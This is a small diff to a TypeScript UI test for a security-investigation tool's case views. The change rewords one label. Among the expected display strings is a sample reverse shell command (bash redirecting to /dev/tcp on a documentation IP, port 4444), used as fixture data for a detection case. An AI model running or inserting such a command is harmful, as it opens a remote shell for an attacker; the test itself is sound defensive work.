@@ -106,7 +106,7 @@ export function describeCaseViews(opener: Opener): void {
         'Exec Runs Reverse Shell or Downloader by mallory@example.com',
         'Execution → Credential Access',
         "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
-        'Belongs here by the same credential',
+        'Belongs here: the same credential',
         'What the log does not show',
         'k8s-audit show',
       ]) {
